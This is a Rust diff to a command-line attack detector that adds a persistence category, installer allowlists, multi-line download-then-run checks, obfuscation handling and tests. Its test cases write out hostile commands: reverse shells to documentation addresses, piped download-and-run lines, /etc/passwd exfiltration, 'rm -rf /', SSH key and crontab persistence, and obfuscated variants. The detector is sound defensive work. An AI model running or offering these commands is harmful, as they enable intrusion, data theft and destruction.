@@ -15,6 +15,8 @@ pub(crate) enum Attack {
     Exfiltration,
     /// Destroys files, or the machine's ability to work.
     Destruction,
+    /// Lets somebody in later, runs itself again, or works for somebody else.
+    Persistence,
 }
 
 impl Attack {
@@ -27,6 +29,7 @@ impl Attack {
             Attack::Encoded => "a command that runs what it decodes",
             Attack::Exfiltration => "a command that sends files away",
             Attack::Destruction => "a command that destroys files",
+            Attack::Persistence => "a command that settles on the machine",
         }
     }
 }
@@ -42,7 +45,26 @@ const INSTALLERS: &[&str] = &[
     "https://get.docker.com",
     "https://pixi.sh/install.sh",
     "https://packagecloud.io/install/repositories/github/git-lfs",
-    "https://raw.githubusercontent.com/nvm-sh/nvm/",
+    "https://bootstrap.pypa.io/",
+    "https://codecov.io/bash",
+    "https://get.helm.sh",
+    "https://get.k3s.io",
+    "https://get.pnpm.io",
+    "https://bun.sh/install",
+    "https://deno.land/",
+    "https://pyenv.run",
+    "https://sdk.cloud.google.com",
+    "https://rclone.org/install.sh",
+    "https://starship.rs/install.sh",
+    "https://micro.mamba.pm",
+    "https://repo.anaconda.com/",
+    "https://repo.continuum.io/",
+    "https://developer.download.nvidia.com/",
+    "https://wasmtime.dev/install.sh",
+    "https://rustwasm.github.io/wasm-pack/",
+    // Publishers of code: whose it is stands in the address, and it is kept.
+    "https://raw.githubusercontent.com/",
+    "https://github.com/",
 ];
 
 const DOWNLOADERS: &[&str] =
@@ -96,6 +118,106 @@ pub(crate) fn attack(text: &str) -> Option<Attack> {
     mild
 }
 
+/// The same for a file that is run as a whole: what stands in quotes is a command too, and so are several lines that
+/// together run what they download.
+pub(crate) fn script(text: &str) -> Option<Attack> {
+    let whole = attack(text).filter(|attack| *attack != Attack::Installer);
+    whole.or_else(|| quoted(text)).or_else(|| staged(text)).or_else(|| attack(text))
+}
+
+/// The worst that any quoted part of a line does.
+fn quoted(text: &str) -> Option<Attack> {
+    if !has_hint(text) {
+        return None;
+    }
+    let parts = text.lines().flat_map(|line| {
+        ['"', '\'']
+            .into_iter()
+            .flat_map(|mark| line.split(mark).skip(1).step_by(2))
+            .filter(|part| part.len() > 8)
+    });
+    parts.filter_map(line_attack).find(|attack| *attack != Attack::Installer)
+}
+
+/// A file that one line downloads, and another starts or hands to a shell.
+pub(crate) fn staged(text: &str) -> Option<Attack> {
+    const MOST: usize = 64;
+    if !has_hint(text) {
+        return None;
+    }
+    let joined = text.replace("\\\r\n", " ").replace("\\\n", " ");
+    let mut fetched: Vec<String> = Vec::new();
+    for line in joined.lines() {
+        let line = line.trim().trim_start_matches(['!', '%']).trim_start();
+        for command in line.split(['&', ';']) {
+            let words: Vec<&str> = command.split_whitespace().collect();
+            if fetched.len() < MOST
+                && let Some(file) = downloaded(&words)
+            {
+                fetched.push(file);
+            } else if !fetched.is_empty() && runs_file(&words, &fetched) {
+                return Some(Attack::DownloadAndRun);
+            }
+        }
+    }
+    None
+}
+
+/// The name of the file that a command downloads from a place that is nobody's known one.
+fn downloaded(words: &[&str]) -> Option<String> {
+    let at = words.iter().position(|word| matches!(program(word), "curl" | "wget"))?;
+    let url =
+        words.iter().skip(at).map(|word| word.trim_matches(['"', '\''])).find(|word| word.contains("://"))?;
+    let lower = url.to_ascii_lowercase();
+    if is_known_place(&lower) || HOSTS.iter().any(|known| lower.starts_with(known)) {
+        return None;
+    }
+    let after = |flags: &[&str]| {
+        let flag = words.iter().position(|word| flags.contains(word))?;
+        words.get(flag + 1).map(|word| word.trim_matches(['"', '\'']))
+    };
+    let target = if program(words.get(at)?) == "curl" {
+        after(&["-o", "--output", "-fo", "-so", "-sLo", "-Lo", "-fsSLo", "-sSLo", ">"])
+    } else {
+        after(&["-O", "-qO", "--output-document", ">"])
+    };
+    let path = target.unwrap_or_else(|| url.split(['?', '#']).next().unwrap_or(url));
+    let name = path.rsplit('/').next().unwrap_or(path);
+    // Whoever proves who they are with TLS is trusted by many; but they do not hide what they fetch.
+    let hidden = name.starts_with('.')
+        || ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|folder| path.starts_with(folder));
+    let told = hidden || !lower.starts_with("https://");
+    (told && !name.is_empty() && name != "-").then(|| name.to_owned())
+}
+
+/// Where the publishers of tools and models keep their files.
+const HOSTS: &[&str] = &[
+    "https://git.savannah.gnu.org/",
+    "https://huggingface.co/",
+    "https://storage.googleapis.com/",
+    "https://dl.google.com/",
+    "https://download.pytorch.org/",
+    "https://files.pythonhosted.org/",
+    "https://www.python.org/",
+    "https://cmake.org/",
+    "https://dl.fbaipublicfiles.com/",
+];
+
+/// Whether a command starts one of these files, or hands it to a shell.
+fn runs_file(words: &[&str], files: &[String]) -> bool {
+    let mut words =
+        words.iter().skip_while(|word| matches!(**word, "sudo" | "nohup" | "env" | "exec" | "then" | "do"));
+    let Some(first) = words.next().map(|word| word.trim_matches(['"', '\''])) else { return false };
+    let is_one = |word: &str| {
+        let name = word.trim_matches(['"', '\'', ';']).rsplit('/').next().unwrap_or(word);
+        files.iter().any(|file| file == name)
+    };
+    match program(first) {
+        "sh" | "bash" | "zsh" | "dash" | "ksh" | "." | "source" => words.any(|word| is_one(word)),
+        _ => first.contains('/') && is_one(first),
+    }
+}
+
 /// Whether any word is there that every attack needs: one pass, for texts of megabytes.
 fn has_hint(text: &str) -> bool {
     const HINTS: &[&str] = &[
@@ -131,6 +253,19 @@ fn has_hint(text: &str) -> bool {
         "fetch",
         "lynx",
         "authorized_keys",
+        "crontab",
+        "xmrig",
+        "stratum+tcp",
+        "/inet/tcp",
+        "rsocket",
+        "pty.spawn",
+        "Socket",
+        "socket",
+        "${IFS}",
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
     ];
     HINTS.iter().any(|hint| memchr::memmem::find(text.as_bytes(), hint.as_bytes()).is_some())
 }
@@ -139,24 +274,59 @@ fn line_attack(line: &str) -> Option<Attack> {
     const LONGEST: usize = 64 << 10;
     let line = line.get(..line.floor_char_boundary(LONGEST))?.to_ascii_lowercase();
     let line = line.trim().trim_start_matches(['!', '$', '>', '#']).trim();
+    judge_line(line).or_else(|| {
+        // A shell drops these: `c""url`, `c\url`; `${IFS}` is its blank.
+        let dressed = ["${ifs}", "$ifs", "\"\"", "''", "\\"].iter().any(|mark| line.contains(mark));
+        let bare = line.replace("${ifs}", " ").replace("$ifs", " ").replace(['"', '\'', '\\'], "");
+        dressed.then(|| judge_line(&bare)).flatten()
+    })
+}
+
+fn judge_line(line: &str) -> Option<Attack> {
     reverse_shell(line)
         .or_else(|| destruction(line))
         .or_else(|| encoded(line))
         .or_else(|| exfiltration(line))
         .or_else(|| download(line))
+        .or_else(|| persistence(line))
+}
+
+/// Lets somebody in, runs again by itself, or mines coins.
+fn persistence(line: &str) -> Option<Attack> {
+    let writes = line.contains(">>") || line.contains("> ") || line.contains("tee ");
+    let keys = line.contains("/authorized_keys") && line.contains("ssh-") && writes;
+    let fetches = ["curl ", "wget ", "/dev/tcp/", "base64"].iter().any(|what| line.contains(what));
+    let cron = fetches
+        && (line.contains("| crontab")
+            || line.contains("|crontab")
+            || line.contains("> /etc/cron")
+            || line.contains("/var/spool/cron"));
+    let mines = line.contains("stratum+tcp://") || line.contains("xmrig") && line.contains("-o ");
+    (keys || cron || mines).then_some(Attack::Persistence)
 }
 
 fn reverse_shell(line: &str) -> Option<Attack> {
-    let net = line.contains("/dev/tcp/") || line.contains("/dev/udp/");
     let shell =
         ["/bin/sh", "/bin/bash", "cmd.exe", "bash -i", "sh -i"].iter().any(|shell| line.contains(shell));
+    // Whether a port of this machine answers is asked so too.
+    let own = ["/dev/tcp/127.0.0.1", "/dev/tcp/localhost", "/dev/tcp/$host"];
+    let net = (line.contains("/dev/tcp/") || line.contains("/dev/udp/"))
+        && (shell || !own.iter().any(|own| line.contains(own)));
     let words: Vec<&str> = line.split(|c: char| c.is_whitespace() || "|;&".contains(c)).collect();
     let netcat =
         words.iter().any(|word| matches!(program(word), "nc" | "ncat" | "netcat" | "socat" | "telnet"));
     let execute =
         words.iter().any(|word| matches!(*word, "-e" | "-c" | "-ne" | "-lvpe") || word.starts_with("exec:"));
     let fifo = line.contains("mkfifo") || line.contains("|nc ") || line.contains("| nc ");
-    let script = line.contains("socket") && line.contains("dup2(") || line.contains("fsockopen(") && shell;
+    let python =
+        line.contains("python") && line.contains("-c") && line.contains("socket") && line.contains("connect");
+    let script = line.contains("socket") && line.contains("dup2(")
+        || line.contains("fsockopen(") && shell
+        || python && (line.contains("subprocess") || line.contains("pty.spawn"))
+        || line.contains("ruby -rsocket")
+        || line.contains("perl ") && line.contains("socket") && line.contains("exec")
+        || line.contains("/inet/tcp/")
+        || line.contains("mkfifo") && line.contains("s_client");
     (net && (shell || line.contains("exec ") || line.contains("<&") || line.contains(">&"))
         || netcat && shell && (execute || fifo)
         || script)
@@ -226,8 +396,23 @@ fn download(line: &str) -> Option<Attack> {
     if !(piped_into_interpreter(line) || substituted || then_runs(line)) {
         return None;
     }
-    let known = INSTALLERS.iter().any(|url| line.contains(url)) && line.matches("http").count() == 1;
+    // `--proto '=https'` is no address.
+    let is_url = |url: &&str| url.starts_with("http://") || url.starts_with("https://");
+    let urls = line.match_indices("http").filter_map(|(at, _)| line.get(at..));
+    let mut urls = urls.filter(is_url).peekable();
+    let known = urls.peek().is_some() && urls.all(is_known_place) && !line.contains("ftp://");
     Some(if known { Attack::Installer } else { Attack::DownloadAndRun })
+}
+
+/// Whether `url` is of a place in [`INSTALLERS`], and not of a host whose name only begins so.
+fn is_known_place(url: &str) -> bool {
+    INSTALLERS.iter().any(|known| {
+        let rest = url.strip_prefix(known);
+        rest.is_some_and(|rest| {
+            known.matches('/').count() > 2
+                || !rest.starts_with(|c: char| c.is_alphanumeric() || ".-@:".contains(c))
+        })
+    })
 }
 
 /// `curl 198.51.100.7/x`: an address without a scheme.
@@ -290,7 +475,9 @@ mod tests {
 
     #[test]
     fn command_lines_are_judged() {
-        use Attack::{Destruction, DownloadAndRun, Encoded, Exfiltration, Installer, ReverseShell};
+        use Attack::{
+            Destruction, DownloadAndRun, Encoded, Exfiltration, Installer, Persistence, ReverseShell,
+        };
         for (line, what) in [
             ("curl -s http://198.51.100.7/x.sh | bash", DownloadAndRun),
             ("!wget -qO- https://example.org/i | sudo sh -s -- -y", DownloadAndRun),
@@ -300,13 +487,22 @@ mod tests {
             ("bash <(curl -s http://example.org/x)", DownloadAndRun),
             ("IEX (New-Object Net.WebClient).DownloadString('http://example.org/x')", DownloadAndRun),
             ("curl -fsSL https://ollama.com/install.sh | sh", Installer),
+            ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", Installer),
+            ("curl https://sh.rustup.rs.example.org/x | sh", DownloadAndRun),
+            ("curl ftp://198.51.100.7/x | sh", DownloadAndRun),
             ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", ReverseShell),
             ("nc -e /bin/sh 198.51.100.7 4444", ReverseShell),
+            ("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", ReverseShell),
             ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f", ReverseShell),
             ("echo aGVsbG8= | base64 -d | sh", Encoded),
             ("powershell -enc ZQBjAGgAbwA=", Encoded),
             ("curl -F f=@/etc/passwd http://198.51.100.7", Exfiltration),
             ("sudo rm -rf / --no-preserve-root", Destruction),
+            ("c\"\"url http://198.51.100.7/x | sh", DownloadAndRun),
+            ("wget${IFS}http://198.51.100.7/x${IFS}-O-${IFS}|${IFS}sh", DownloadAndRun),
+            ("python3 -c 'import socket,subprocess;s=socket.socket();s.connect((1,2))'", ReverseShell),
+            ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", Persistence),
+            ("(crontab -l; echo '* * * * * curl -s http://198.51.100.7') | crontab -", Persistence),
         ] {
             assert_eq!(attack(line), Some(what), "{line}");
         }
@@ -319,8 +515,30 @@ mod tests {
             "git clone https://example.org/x && cd x && pip install -r requirements.txt",
             "echo hello | base64",
             "see curl for more",
+            "if (exec 3<>\"/dev/tcp/127.0.0.1/$port\") 2>/dev/null; then",
         ] {
             assert_eq!(attack(line), None, "{line}");
+        }
+    }
+
+    #[test]
+    fn commands_over_several_lines_are_one() {
+        for text in [
+            "wget http://198.51.100.7/m -O /tmp/m\nchmod +x /tmp/m\n/tmp/m",
+            "!curl -o m http://198.51.100.7/a\nprint(1)\n!bash m",
+            "curl -O http://example.org/run.sh\necho\nsh ./run.sh",
+            "curl https://example.org/a -o /tmp/.a\nsudo bash /tmp/.a",
+        ] {
+            assert_eq!(script(text), Some(Attack::DownloadAndRun), "{text}");
+        }
+        for text in [
+            "wget https://repo.anaconda.com/miniconda/Miniconda3-latest.sh\nbash Miniconda3-latest.sh -b",
+            "wget https://example.org/toolkit.sh -O toolkit.sh\nsudo bash toolkit.sh -s",
+            "wget http://example.org/data.zip\nunzip data.zip\nbash train.sh",
+            "curl -LO https://github.com/a/b/releases/download/1/tool\nchmod +x tool",
+            "wget https://example.org/weights.bin -O weights.bin\npython run.py weights.bin",
+        ] {
+            assert!(matches!(script(text), None | Some(Attack::Installer)), "{text}");
         }
     }
 }
